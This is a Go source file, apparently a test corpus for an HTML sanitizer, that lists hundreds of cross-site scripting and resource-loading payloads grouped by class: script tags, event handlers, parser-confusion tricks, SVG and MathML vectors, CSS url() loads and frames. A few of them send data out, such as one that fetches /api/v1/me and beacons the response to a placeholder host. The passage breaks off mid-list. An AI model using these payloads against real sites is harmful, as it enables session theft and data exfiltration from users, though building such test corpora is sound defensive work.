package hostile

import (
	"encoding/binary"
	"fmt"
	"slices"
	"strings"
	"unicode/utf16"
)

// everything is what is tried, class by class.
func everything() []tried {
	return slices.Concat(
		class("script", scripts), class("handler", handlers()), class("parser", parserTricks), class("svg", svgs), class("math", maths),
		class("style", styles()), class("resource", resources()), class("frame", frames), class("head", heads), pressed("form", forms),
		pressed("link", links()), class("target", targets), class("clobber", clobbers()), cids(), charsets(), class("syntax", syntax()),
		words(), plains(), files(), splits(),
	)
}

func class(name string, pages []string) []tried {
	var all []tried
	for _, p := range pages {
		all = append(all, tried{class: name, html: p})
	}
	return all
}

// pressed is class for what acts when it is pressed.
func pressed(name string, pages []string) []tried {
	all := class(name, pages)
	for i := range all {
		all[i].press = true
	}
	return all
}

var scripts = []string{
	`<script>@JS@</script>`,
	`<SCRIPT>@JS@</SCRIPT >`,
	`<script src="@URL@"></script>`,
	`<script src=//@HOST@/x.js></script>`,
	`<script src="http://@CANARY@"></script>`,
	`<script type=module>@JS@</script>`,
	`<script type=module src="@URL@"></script>`,
	`<script type="text/javascript" language=javascript>@JS@</script>`,
	`<script>fetch("@URL@")</script>`,
	`<script>new Image().src="@URL@"</script>`,
	`<script>navigator.sendBeacon("@URL@");@JS@</script>`,
	`<script>new WebSocket("ws://@HOST@/")</script>`,
	`<script>new EventSource("@URL@")</script>`,
	`<script>location="@URL@"</script>`,
	`<script>top.location="@URL@"</script>`,
	`<script>parent.document.title="@N@";@JS@</script>`,
	`<script>open("@URL@");@JS@</script>`,
	`<script>import("@URL@")</script>`,
	`<script type=importmap>{"imports":{"x":"@URL@"}}</script><script type=module>import "x"</script>`,
	`<script type=speculationrules>{"prefetch":[{"urls":["@URL@"]}]}</script><script>@JS@</script>`,
	`<script type=speculationrules>{"prerender":[{"urls":["@URL@"]}]}</script>`,
	`<script defer src="data:text/javascript,@JS@"></script>`,
	`<script async src="data:,@JS@"></script>`,
	`<script nonce=x>@JS@</script>`,
	`<scr<script>ipt>@JS@</scr</script>ipt>`,
	`<scr<script></script>ipt>@JS@</script>`,
	`<script/x>@JS@</script>`,
	"<script\n>@JS@</script\n>",
	"<script\x0c>@JS@</script>",
	`<script x=">">@JS@</script>`,
	`<script <b>@JS@</script>`,
	`<<script>@JS@//<</script>`,
	`<script>//<!--
@JS@</script>`,
	`<script><!--
@JS@
--></script>`,
	`<script>@JS@`,
	`</p><script>@JS@</script><p>`,
	`<p><script>@JS@</script></p>`,
	`<table><script>@JS@</script></table>`,
	`<ul><li><script>@JS@</script></ul>`,
	`<template><script>@JS@</script></template><script>@JS@</script>`,
	`<div><template shadowrootmode=open><script>@JS@</script><img src="@URL@"></template></div>`,
	`<script>setTimeout("@JS@")</script>`,
	`<script>eval("@JS@")</script>`,
	`<script>document.write("<img src=@URL@>")</script>`,
	`<script>new Worker(URL.createObjectURL(new Blob(["@JS@"])));@JS@</script>`,
	`<script>navigator.serviceWorker.register("/api/v1/x");@JS@</script>`,
	`<script>new RTCPeerConnection({iceServers:[{urls:"stun:@HOST@"}]}).createDataChannel("x");@JS@</script>`,
	`<script>alert(document.cookie);@JS@</script>`,
	`<script>opener&&(opener.location="@URL@");@JS@</script>`,
	`<script>fetch("/api/v1/me").then(r=>r.text()).then(t=>new Image().src="@URL@?"+t);@JS@</script>`,
	`<script>parent.postMessage("@N@","*");@JS@</script>`,
	`<xss><script>@JS@</script></xss>`,
}

// handlers are event handlers, on elements that may fire them by themselves
// and on some that a cleaner lets live.
func handlers() []string {
	all := []string{
		`<img src=x onerror=@JS@>`, `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="@JS@">`,
		`<IMG SRC=x OnErRoR=@JS@>`, `<img/src=x/onerror=@JS@>`, "<img src=x\nonerror\n=\n@JS@>", `<img src=x onerror="&#99;onsole.log(7000000+@N@)">`,
		`<img src=x onerror=&#x63;onsole.log(7000000+@N@)>`, "<img src=x onerror=`@JS@`>", `<img src=x onerror='@JS@'`, `<img src=x:x onerror=@JS@ `,
		`<img src onerror=@JS@>`, `<img srcset=x onerror=@JS@>`, `<img src=x alt="x" onerror="@JS@" style=color:red>`, `<image src=x onerror=@JS@>`,
		`<body onload=@JS@>`, `<body onpageshow=@JS@>`, `<body onfocus=@JS@>`, `<body onhashchange=@JS@ onload=@JS@>`, `<body onresize=@JS@ onload=@JS@>`,
		`<html onload=@JS@><body onload=@JS@>`, `<html onmouseover=@JS@ onfocusin=@JS@><input autofocus>`, `<frameset onload=@JS@>`, `<frameset onpageshow=@JS@><frame>`,
		`<svg onload=@JS@>`, `<svg/onload=@JS@>`, `<svg><g onload=@JS@></g></svg>`, `<svg><image href=x onerror=@JS@ /></svg>`,
		`<svg><animate onbegin=@JS@ attributeName=x dur=1s>`, `<svg><set onbegin=@JS@ attributeName=x dur=1s>`, `<svg><animate onend=@JS@ attributeName=x dur=0.01s>`,
		`<iframe onload=@JS@></iframe>`, `<iframe srcdoc=x onload=@JS@></iframe>`, `<object data=x onerror=@JS@></object>`, `<embed src=/x onload=@JS@>`,
		`<video src=x onerror=@JS@></video>`, `<video><source src=x onerror=@JS@></video>`, `<audio src=x onerror=@JS@></audio>`, `<audio><source onerror=@JS@ src=x></audio>`,
		`<video onloadstart=@JS@ src=x></video>`, `<video poster=x onloadstart=@JS@><source src=x>`, `<track onerror=@JS@ src=x default>`,
		`<input autofocus onfocus=@JS@>`, `<textarea autofocus onfocus=@JS@></textarea>`, `<select autofocus onfocus=@JS@></select>`, `<button autofocus onfocus=@JS@>x</button>`,
		`<a href=# autofocus onfocus=@JS@>x</a>`, `<div tabindex=0 autofocus onfocus=@JS@>x</div>`, `<div contenteditable autofocus onfocusin=@JS@>x</div>`, `<input autofocus onblur=@JS@><input autofocus>`,
		`<keygen autofocus onfocus=@JS@>`, `<input type=image src=x onerror=@JS@>`, `<details open ontoggle=@JS@>x</details>`, `<details ontoggle=@JS@ open><summary>x`,
		`<marquee onstart=@JS@>x</marquee>`, `<marquee loop=1 width=0 onfinish=@JS@>x</marquee>`, `<link rel=stylesheet href=data:text/css, onload=@JS@>`, `<style onload=@JS@>a{}</style>`,
		`<script src=x onerror=@JS@></script>`, `<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationstart=@JS@>x</p>`,
		`<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationend=@JS@>x</p>`, `<style>p{transition:color 1ms;animation:x 1ms}@keyframes x{}</style><p onanimationstart="@JS@">x</p>`,
		`<p style="overflow:auto;height:10px" onscroll=@JS@ onscrollend=@JS@><br><br><br><input autofocus>`, `<p oncontentvisibilityautostatechange=@JS@ style="display:block;content-visibility:auto">x</p>`,
		`<button popovertarget=p>x</button><div popover id=p onbeforetoggle=@JS@>x</div>`, `<dialog open onclose=@JS@ oncancel=@JS@><form method=dialog><button autofocus>x</dialog>`,
		`<math><mi onfocus=@JS@ autofocus tabindex=1>x</mi></math>`, `<bgsound src=x onerror=@JS@>`, `<isindex type=image src=x onerror=@JS@>`, `<applet code=x onerror=@JS@></applet>`,
	}
	for _, on := range strings.Fields(`onabort onafterprint onauxclick onbeforecopy onbeforecut onbeforeinput onbeforepaste onbeforeprint onbeforeunload onblur oncanplay
		onchange onclick oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart ondrop ondurationchange
		onemptied onended onerror onfocus onfocusin onfocusout onformdata onfullscreenchange ongotpointercapture oninput oninvalid onkeydown onkeypress onkeyup onload
		onloadeddata onloadedmetadata onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel
		onpaste onpause onplay onplaying onpointerdown onpointerenter onpointermove onpointerover onpointerup onpopstate onprogress onratechange onreset onscroll
		onsearch onseeked onselect onselectionchange onselectstart onshow onstalled onstorage onsubmit onsuspend ontimeupdate ontouchstart ontransitionend
		onunhandledrejection onunload onvolumechange onwaiting onwheel onx on onsecuritypolicyviolation onbeforematch onslotchange`) {
		all = append(all, `<div style="width:600px;height:300px" tabindex=0 autofocus `+on+`="@JS@">press <a href="https://x.example/" `+on+`=@JS@>me</a></div>`)
	}
	return all
}

// parserTricks are read one way by a cleaner and another way by a browser.
var parserTricks = []string{
	`<noscript><p title="</noscript><img src=x onerror=@JS@>">`,
	`<noscript><style></noscript><img src=x onerror=@JS@></style>`,
	`<template><p title="</template><img src=x onerror=@JS@>">`,
	`<title><p title="</title><img src=x onerror=@JS@>">`,
	`<textarea><p title="</textarea><img src=x onerror=@JS@>">`,
	`<style><p title="</style><img src=x onerror=@JS@>">`,
	`<xmp><p title="</xmp><img src=x onerror=@JS@>">`,
	`<iframe><p title="</iframe><img src=x onerror=@JS@>">`,
	`<noembed><p title="</noembed><img src=x onerror=@JS@>">`,
	`<noframes><p title="</noframes><img src=x onerror=@JS@>">`,
	`<script><p title="</script><img src=x onerror=@JS@>">`,
	`<plaintext><img src=x onerror=@JS@></plaintext><img src="@URL@">`,
	`<listing>&lt;img src=x onerror=@JS@&gt;</listing><img src=x onerror=@JS@>`,
	`<select><style></select><img src=x onerror=@JS@></style>`,
	`<select><option><img src=x onerror=@JS@></select>`,
	`<select><template><p><img src=x onerror=@JS@></template></select>`,
	`<table><td><svg><style><img src=x onerror=@JS@></style></svg></table>`,
	`<table><caption><math><style><img src=x onerror=@JS@>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=@JS@>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=@JS@&gt;">`,
	`<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=x onerror=@JS@&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@JS@>`,
	`<form><div></form><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=@JS@ src>">`,
	`<svg></p><style><a id="</style><img src=x onerror=@JS@>">`,
	`<svg><style><img src=x onerror=@JS@></style></svg>`,
	`<svg><p><style><g title="</style><img src=x onerror=@JS@>">`,
	`<svg><desc><noscript></desc><img src=x onerror=@JS@></noscript>`,
	`<svg><title><style><img src=x onerror=@JS@></style></title></svg>`,
	`<svg><foreignObject><math><mi><style><img src=x onerror=@JS@></style></mi></math></foreignObject></svg>`,
	`<svg><annotation-xml encoding="text/html"><img src=x onerror=@JS@></annotation-xml></svg>`,
	`<math><annotation-xml encoding="text/html"><style><img src=x onerror=@JS@></style></annotation-xml></math>`,
	`<math><annotation-xml encoding="application/xhtml+xml"><script>@JS@</script></annotation-xml></math>`,
	`<math><annotation-xml><img src=x onerror=@JS@></annotation-xml></math>`,
	`<math><ms><mglyph><img src=x onerror=@JS@></ms></math>`,
	`<math><mi><malignmark><style><img src=x onerror=@JS@>`,
	`<svg><![CDATA[><img src=x onerror=@JS@>]]></svg>`,
	`<svg><a><![CDATA[</a><img src=x onerror=@JS@>]]>`,
	`<math><![CDATA[</math><img src=x onerror=@JS@>]]>`,
	`<![CDATA[<img src=x onerror=@JS@>]]>`,
	`<!-- --!><img src=x onerror=@JS@> -->`,
	`<!--><img src=x onerror=@JS@>-->`,
	`<!---><img src=x onerror=@JS@>-->`,
	`<!-- <!-- --><img src=x onerror=@JS@> -->`,
	`<! foo="><img src=x onerror=@JS@>">`,
	`<? foo="><img src=x onerror=@JS@>">`,
	`</ foo="><img src=x onerror=@JS@>">`,
	`<% foo="%><img src=x onerror=@JS@>">`,
	`<!doctype x [<!ENTITY e "<img src=x onerror=@JS@>">]>&e;`,
	`<?xml version="1.0"?><!DOCTYPE html><img src=x onerror=@JS@>`,
	`<?xml-stylesheet href="@URL@"?><img src=x onerror=@JS@>`,
	`<!--[if mso]><img src="@URL@"><![endif]-->`,
	`<!--[if !mso]><!--><img src="@URL@"><!--<![endif]-->`,
	`<![if !mso]><img src="@URL@"><![endif]>`,
	`<comment><img src=x onerror=@JS@></comment>`,
	`<a/href="x"><svg><a xlink:href="javascript:@JS@"><text y=20>x</text></a></svg>`,
	`<p id="</p><script>@JS@</script>">`,
	`<b title="&quot;><img src=x onerror=@JS@>">x</b>`,
	`<b title='"><img src=x onerror=@JS@>'>x</b>`,
	"<b title=`\"><img src=x onerror=@JS@>`>x</b>",
	`<img alt="<x" title="/><img src=x onerror=@JS@>">`,
	`<img alt='"/><script>@JS@</script>' src="cid:none@N@">`,
	`<img alt="&lt;img src=x onerror=@JS@&gt;" src="@URL@">`,
	`&lt;img src=x onerror=@JS@&gt;<img src=x onerror=@JS@>`,
	`<font color='"><img src=x onerror=@JS@>'>x</font>`,
	`<td bgcolor="&#34;><img src=x onerror=@JS@>">x`,
	`<br/><br/ onload=@JS@><img src=x onerror=@JS@ /`,
	`<nobr><nobr><svg><nobr><style><img src=x onerror=@JS@>`,
	`<table><tr><td></table><table><a><svg></table></a><style><img src=x onerror=@JS@></style>`,
	`<a><table><a><svg><title></table></title><img src=x onerror=@JS@>`,
	`<dialog open><search><hgroup><img src=x onerror=@JS@>`,
	`<selectedcontent><selectlist><img src=x onerror=@JS@>`,
	`<portal src="@URL@"></portal><fencedframe src="@URL@"></fencedframe>`,
}

var svgs = []string{
	`<svg xmlns="http://www.w3.org/2000/svg"><script>@JS@</script></svg>`,
	`<svg><script xlink:href="data:,@JS@"></script></svg>`,
	`<svg><script href="@URL@"></script></svg>`,
	`<svg><script>&#99;onsole.log(7000000+@N@)</script></svg>`,
	`<svg><script>/*<![CDATA[*/@JS@/*]]>*/</script></svg>`,
	`<svg><script type="application/ecmascript">@JS@</script></svg>`,
	`<svg><image href="@URL@" width=9 height=9></svg>`,
	`<svg><image xlink:href="@URL@" width=9 height=9></svg>`,
	`<svg><use href="@URL@#x"></use></svg>`,
	`<svg><use xlink:href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='@JS@'/></svg>#x"></use></svg>`,
	`<svg><feImage href="@URL@"></feImage></svg>`,
	`<svg><filter id=f><feImage xlink:href="@URL@"></filter><rect width=9 height=9 filter="url(#f)"></svg>`,
	`<svg><rect width=9 height=9 fill="url(@URL@#x)"></svg>`,
	`<svg><rect width=9 height=9 filter="url(@URL@#x)" mask="url(@URL@#m)"></svg>`,
	`<svg><rect width=9 height=9 style="fill:url('@URL@#x');clip-path:url('@URL@#c')"></svg>`,
	`<svg><text cursor="url(@URL@),auto">x</text></svg>`,
	`<svg><path marker-start="url(@URL@#m)" d="M0 0L9 9"></svg>`,
	`<svg><style>@import "@URL@";</style></svg>`,
	`<svg><style>*{background:url(@URL@)}</style><rect></svg>`,
	`<svg><foreignObject><img src="@URL@"></foreignObject></svg>`,
	`<svg><foreignObject width=99 height=99><iframe src="javascript:parent.@JS@"></iframe></foreignObject></svg>`,
	`<svg><foreignObject width=99 height=99><body onload=@JS@ xmlns="http://www.w3.org/1999/xhtml"></body></foreignObject></svg>`,
	`<svg><animate attributeName=href values="javascript:@JS@"></animate><image onerror=@JS@ href=x></svg>`,
	`<svg><image href=x><animate attributeName=href to="@URL@" begin=0s dur=1ms fill=freeze></image></svg>`,
	`<svg><image><set attributeName=href to="@URL@"></image></svg>`,
	`<svg><set attributeName=onmouseover to=@JS@></set><g onload=@JS@></g></svg>`,
	`<svg><animateTransform onbegin=@JS@ attributeName=transform></svg>`,
	`<svg><animateMotion onbegin=@JS@ dur=1s path="M0 0"></svg>`,
	`<svg><discard onbegin=@JS@></svg>`,
	`<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>@JS@</handler><g onload=@JS@></g></svg>`,
	`<svg><listener event=load handler="#h"></listener><script id=h>@JS@</script></svg>`,
	`<svg><view onload=@JS@></view><g onload=@JS@></svg>`,
	`<svg><metadata><script>@JS@</script></metadata></svg>`,
	`<svg><switch><g onload=@JS@></g></switch></svg>`,
	`<svg><video src="@URL@" onerror=@JS@></video></svg>`,
	`<svg><audio src=x onerror=@JS@></audio></svg>`,
	`<svg><iframe src="@URL@"></iframe></svg>`,
	`<svg><a xlink:href="@URL@" xlink:show=embed xlink:actuate=onLoad><text>x</text></a><image href="@URL@"></svg>`,
	`<svg><linearGradient href="@URL@#x" id=g></linearGradient><rect fill="url(#g)" width=9 height=9></svg>`,
	`<svg><textPath href="@URL@#x">x</textPath><image href="@URL@"></svg>`,
	`<svg><mpath href="@URL@#x"></mpath><feImage href="@URL@"></svg>`,
	`<svg><font-face-uri xlink:href="@URL@"></font-face-uri><image xlink:href="@URL@"></svg>`,
	`<svg><cursor xlink:href="@URL@"></cursor><image xlink:href="@URL@"></svg>`,
	`<svg xml:base="http://@HOST@/"><image href="x"></svg>`,
	`<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" onload=@JS@>`,
	`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='@URL@'/></svg>" onload=@JS@>`,
	`<object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@JS@'/>"></object>`,
	`<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>@JS@</script></svg>">`,
	`<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@JS@'/>"></iframe>`,
}

var maths = []string{
	`<math href="javascript:@JS@">x</math><img src=x onerror=@JS@>`,
	`<math><mtext><script>@JS@</script></mtext></math>`,
	`<math><mi><img src=x onerror=@JS@></mi></math>`,
	`<math><mtext><img src="@URL@"></mtext></math>`,
	`<math><mtext><iframe src="@URL@"></iframe></mtext></math>`,
	`<math><semantics><annotation-xml encoding="text/html"><script>@JS@</script></annotation-xml></semantics></math>`,
	`<math><semantics><annotation-xml encoding="SVG1.1"><svg onload=@JS@></svg></annotation-xml></semantics></math>`,
	`<math><maction actiontype="statusline#http://x" xlink:href="javascript:@JS@">x</maction><mi><img src=x onerror=@JS@></math>`,
	`<math><mglyph src="@URL@"></mglyph><mi><img src="@URL@"></mi></math>`,
	`<math style="background:url(@URL@)"><mi>x</mi></math>`,
	`<math><mrow style="background-image:url(@URL@)"><mi>x</mi></mrow></math>`,
	`<math definitionURL="@URL@"><mi><svg onload=@JS@></svg></mi></math>`,
	`<math><mstyle mathbackground="url(@URL@)"><mtext><img src="@URL@"></mtext></mstyle></math>`,
	`<math><mo><svg><script>@JS@</script></svg></mo></math>`,
	`<math><ms><a href="javascript:@JS@"><img src=x onerror=@JS@></a></ms></math>`,
}

// styles are what style sheets and style attributes can ask for.
func styles() []string {
	all := []string{
		`<style>@import "@URL@";</style>`,
		`<style>@import url(@URL@);</style>`,
		`<style>@import url(//@HOST@/x) screen;</style>`,
		`<style>@import url("http://@CANARY@") layer(x) supports(display:grid);</style>`,
		`<style>@im\port "@URL@";</style><style>@import '@URL@';</style>`,
		`<style>@charset "utf-8";@import "@URL@";</style>`,
		`<style>@namespace url(@URL@);@font-face{font-family:x;src:url(@URL@)}p{font-family:x}</style><p>x</p>`,
		`<style>@font-face{font-family:x;src:local(none),url(@URL@) format("woff2");unicode-range:U+0-FFFF}*{font-family:x}</style><p>x</p>`,
		`<style>@font-palette-values --x{font-family:x}@font-face{font-family:x;src:url(http://@CANARY@)}p{font:9px x}</style><p>x</p>`,
		`<style>p{background:url(@URL@)}</style><p>x</p>`,
		`<style>p{background:u\72l(@URL@)}</style><p>x</p>`,
		`<style>p{background:\75\72\6c(@URL@)}</style><p>x</p>`,
		"<style>p{background:url(\n@URL@\n)}</style><p>x</p>",
		`<style>p{background:url("\68ttp://@HOST@/x")}</style><p>x</p>`,
		`<style>p{background:/*x*/url(/*x@URL@)}p{background:url(@URL@)}</style><p>x</p>`,
		`<style>p{background:image-set("@URL@" 1x)}</style><p>x</p>`,
		`<style>p{background:-webkit-image-set(url(@URL@) 1x)}</style><p>x</p>`,
		`<style>p{background:cross-fade(url(@URL@),url(@URL@),50%)}</style><p>x</p>`,
		`<style>p{background:image("@URL@")}p{background-image:url(@URL@)}</style><p>x</p>`,
		`<style>:root{--x:url(@URL@)}p{background:var(--x)}</style><p>x</p>`,
		`<style>@property --y{syntax:"<image>";inherits:true;initial-value:url(@URL@)}p{background:var(--y)}</style><p>x</p>`,
		`<style>p{--a:@URL@;background:url(var(--a))}p{background:url(@URL@)}</style><p>x</p>`,
		`<style>p::before{content:url(@URL@)}</style><p>x</p>`,
		`<style>p::after{content:"x" url(@URL@) attr(x)}</style><p>x</p>`,
		`<style>li{list-style:url(@URL@)}</style><ul><li>x</ul>`,
		`<style>li::marker{content:url(@URL@)}</style><ul><li>x</ul>`,
		`<style>@counter-style x{system:cyclic;symbols:url(@URL@)}li{list-style:url(@URL@)}</style><ul><li>x</ul>`,
		`<style>p{cursor:url(@URL@),auto}html{cursor:url(@URL@) 2 2,auto}</style><p>x</p>`,
		`<style>p{border-image:url(@URL@) 9;border:9px solid}</style><p>x</p>`,
		`<style>p{mask:url(@URL@)}</style><p>x</p>`,
		`<style>p{-webkit-mask-image:url(@URL@)}</style><p>x</p>`,
		`<style>p{-webkit-mask-box-image:url(@URL@)}</style><p>x</p>`,
		`<style>p{clip-path:url(@URL@#c)}</style><p>x</p>`,
		`<style>p{filter:url(@URL@#f)}</style><p>x</p>`,
		`<style>p{backdrop-filter:url(@URL@#f);filter:url(@URL@#f)}</style><p>x</p>`,
		`<style>p{shape-outside:url(@URL@);float:left}</style><p>x</p>`,
		`<style>p{-webkit-box-reflect:below 0 url(@URL@)}</style><p>x</p>`,
		`<style>p{offset-path:url(@URL@#x)}p{background:url(@URL@)}</style><p>x</p>`,
		`<style>p{behavior:url(@URL@);-moz-binding:url(@URL@#x);background:url(@URL@)}</style><p>x</p>`,
		`<style>p{width:expression(@JS@);background:url(@URL@)}</style><p>x</p>`,
		`<style>p{background:url(javascript:@JS@)}p{background:url(@URL@)}</style><p>x</p>`,
		`<style>input[value^="a"]{background:url(@URL@)}</style><input value=abc>`,
		`<style>@media all{p{background:url(@URL@)}}</style><p>x</p>`,
		`<style>@supports(display:block){p{background:url(@URL@)}}</style><p>x</p>`,
		`<style>@container (min-width:1px){p{background:url(@URL@)}}body{container-type:inline-size}</style><p>x</p>`,
		`<style>@layer a{p{background:url(@URL@)}}</style><p>x</p>`,
		`<style>@scope(body){p{background:url(@URL@)}}</style><p>x</p>`,
		`<style>@keyframes k{to{background:url(@URL@)}}p{animation:k 1ms forwards}</style><p>x</p>`,
		`<style>@page{background:url(@URL@)}p{background:url(@URL@)}</style><p>x</p>`,
		`<style>p{}</style><style>p{background:url(@URL@)}`,
		`<style>p{color:red}</style/><p style=background:url(@URL@)>x</p>`,
		`<style></style><style>@media print{x{}}p:not(x){background:url(@URL@)}</style><p>x</p>`,
		`<style>::selection{background:url(@URL@)}::placeholder{background:url(@URL@)}p:first-line{background:url(@URL@)}</style><p>x</p>`,
		`<style>::view-transition{background:url(@URL@)}html{background:url(@URL@)}</style><p>x</p>`,
		`<style>*{position:fixed;inset:0;background:url(@URL@);z-index:9999}</style><p>x</p>`,
		`<style type="text/css" media=all>p{background:url(@URL@)}</style><p>x</p>`,
	}
	for _, value := range []string{
		"background:url(@URL@)", "background:url('@URL@')", "background:url(&quot;@URL@&quot;)", "background-image:url(//@HOST@/x)", "background:URL(@URL@)", "background:u\\72l(@URL@)",
		"background:\\75 \\72 \\6c (@URL@)", "background:/**/url(@URL@)", "background-image:image-set('@URL@' 1x)", "color:red;background:url(@URL@)", "color:red}p{background:url(@URL@)", "list-style:url(@URL@);display:list-item",
		"list-style-image:url(@URL@);display:list-item", "cursor:url(@URL@),auto;width:600px;height:300px", "content:url(@URL@)", "border-image:url(@URL@) 9;border:9px solid", "border-image-source:url(@URL@);border:9px solid",
		"mask:url(@URL@)", "-webkit-mask:url(@URL@)", "filter:url(@URL@#f)", "clip-path:url(@URL@#f)", "shape-outside:url(@URL@);float:left", "--x:url(@URL@);background:var(--x)", "background:var(--none,url(@URL@))",
		"background:url(http&#58;//@HOST@/x)", "background:url(\\68 ttp://@HOST@/x)", "background:url(http:\\2f\\2f@HOST@/x)", "behavior:url(@URL@);background:url(@URL@)", "width:expression(@JS@);background:url(@URL@)",
		"font-family:x;src:url(@URL@);background:url(@URL@)", "background:url(data:image/svg+xml,<svg onload=@JS@>);border-image:url(@URL@)", "position:fixed;inset:0;background:url(@URL@)", "all:unset;display:block;background:url(@URL@)",
		"width:calc(1px);background:src('@URL@'),url(@URL@)", "-webkit-box-reflect:below 0 url(@URL@)", "background:url(http://@CANARY@)", "background:conic-gradient(red,red),url(@URL@)", "background: url( @URL@ ) !important",
	} {
		all = append(all, `<p style="`+value+`">x</p>`)
	}
	return all
}

// resources are elements and attributes that load something.
func resources() []string {
	var all []string
	for _, at := range []string{
		"@URL@", "HTTP://@HOST@/x", "//@HOST@/x", `\\@HOST@\x`, "/\\@HOST@/x", "http:@HOST@/x", "https://@HOST@/x", " @URL@", "\t@URL@", "ht\ntp://@HOST@/x", "&#104;ttp://@HOST@/x", "http&colon;//@HOST@/x", "http://x@@HOST@/x",
		"http://@HOST@:8080/x", "http://@CANARY@", "//@CANARY@", "http://[::1]:9/@N@", "http://0x7f000001:9/@N@", "http://192.0.2.1/@N@", "ftp://@HOST@/x", "http://@HOST@/../api", "http://EVIL-@N@.example/x",
		"http://e\u0301vil.@HOST@/x", "http://@HOST@\u3002/x", "blob:@URL@", "filesystem:@URL@/x", "view-source:@URL@", "\x01@URL@", "wss://@HOST@/", "feed:@URL@", "jar:@URL@!/x", "cid:x\"><img src=@URL@>",
	} {
		all = append(all, `<img src="`+at+`">`)
	}
	return append(all,
		`<img src=@URL@>`, `<img src='@URL@' alt=logo width=1 height=1>`, `<img srcset="@URL@ 1x, @URL@ 2x">`, `<img srcset="@URL@ 100w" sizes=100vw src="cid:none">`, `<img lowsrc="@URL@" dynsrc="@URL@" src="@URL@">`,
		`<img loading=lazy src="@URL@">`, `<img fetchpriority=high decoding=sync src="@URL@">`, `<img crossorigin src="@URL@">`, `<img referrerpolicy=unsafe-url src="@URL@">`, `<img attributionsrc="@URL@" src="@URL@">`,
		`<img longdesc="@URL@" usemap="@URL@#m" src="@URL@">`, `<img src="" srcset=",@URL@">`, `<input type=image src="@URL@">`, `<picture><source srcset="@URL@"><img></picture>`, `<picture><source media="all" srcset="@URL@ 1x"><img src=x></picture>`,
		`<picture><source type="image/webp" srcset="@URL@"><img src="cid:none"></picture>`, `<video src="@URL@" autoplay></video>`, `<video poster="@URL@"></video>`, `<video><source src="@URL@"></video>`, `<video autoplay muted><source src="@URL@" type="video/mp4"></video>`,
		`<video src="data:video/mp4;base64,AAAA"><track default src="@URL@"></video><img src="@URL@">`, `<audio src="@URL@" autoplay></audio>`, `<audio preload=auto src="@URL@"></audio>`, `<audio><source src="@URL@"></audio>`, `<bgsound src="@URL@"><audio src="@URL@"></audio>`,
		`<body background="@URL@">`, `<table background="@URL@"><tr><td>x</table>`, `<td background="@URL@">x`, `<table><tr background="@URL@"><td background="@URL@">x</table>`, `<table><tbody background="@URL@"><tr><td background="@URL@">x</table>`,
		`<col background="@URL@"><body background="@URL@">`, `<image src="@URL@">`, `<image xlink:href="@URL@" src="@URL@">`, `<a href="https://x.example/" ping="@URL@"><img src="@URL@"></a>`, `<blockquote cite="@URL@"><img src="@URL@"></blockquote>`,
		`<q cite="@URL@">x</q><del cite="@URL@">y</del><img src="@URL@">`, `<html manifest="@URL@"><img src="@URL@">`, `<head profile="@URL@"><img src="@URL@">`, `<menuitem icon="@URL@"><img src="@URL@">`, `<model src="@URL@"><img src="@URL@">`,
		`<xml src="@URL@" id=x></xml><img datasrc=#x src="@URL@">`, `<ilayer src="@URL@"></ilayer><layer src="@URL@"></layer><img src="@URL@">`, `<v:fill src="@URL@"></v:fill><v:image src="@URL@"><img src="@URL@">`, `<o:p><img src="@URL@"></o:p>`,
	)
}

var frames = []string{
	`<iframe src="@URL@"></iframe>`,
	`<iframe src=//@HOST@/x></iframe>`,
	`<iframe src="http://@CANARY@"></iframe>`,
	`<iframe src="javascript:parent.@JS@"></iframe>`,
	`<iframe src="javascript:@JS@"></iframe>`,
	"<iframe src=\"java\tscript:@JS@\"></iframe>",
	`<iframe src="data:text/html,<script>@JS@</script>"></iframe>`,
	`<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe><iframe src="@URL@"></iframe>`,
	`<iframe srcdoc="<script>@JS@</script>"></iframe>`,
	`<iframe srcdoc="<img src=@URL@>"></iframe>`,
	`<iframe srcdoc="&lt;script&gt;parent.@JS@&lt;/script&gt;"></iframe>`,
	`<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>@JS@</script>"></iframe>`,
	`<iframe csp="script-src *" srcdoc="<script>@JS@</script>"></iframe>`,
	`<iframe credentialless src="@URL@"></iframe>`,
	`<iframe loading=eager allow="*" allowfullscreen src="@URL@"></iframe>`,
	`<iframe src="about:blank" onload="this.contentWindow.@JS@"></iframe>`,
	`<iframe src="/" onload=@JS@></iframe>`,
	`<iframe src="/api/v1/me"></iframe><iframe src="@URL@"></iframe>`,
	`<iframe name="<script>@JS@</script>" src="@URL@"></iframe>`,
	`<frameset><frame src="@URL@"></frameset>`,
	`<frameset cols=*><frame src="javascript:@JS@"></frameset>`,
	`<frameset><frame src="data:text/html,<script>@JS@</script>"></frameset>`,
	`<object data="@URL@"></object>`,
	`<object data="@URL@" type="text/html"></object>`,
	`<object data="javascript:@JS@" type="text/html"></object>`,
	`<object data="data:text/html,<script>@JS@</script>"></object>`,
	`<object data="data:application/pdf;base64,JVBERi0="></object><object data="@URL@"></object>`,
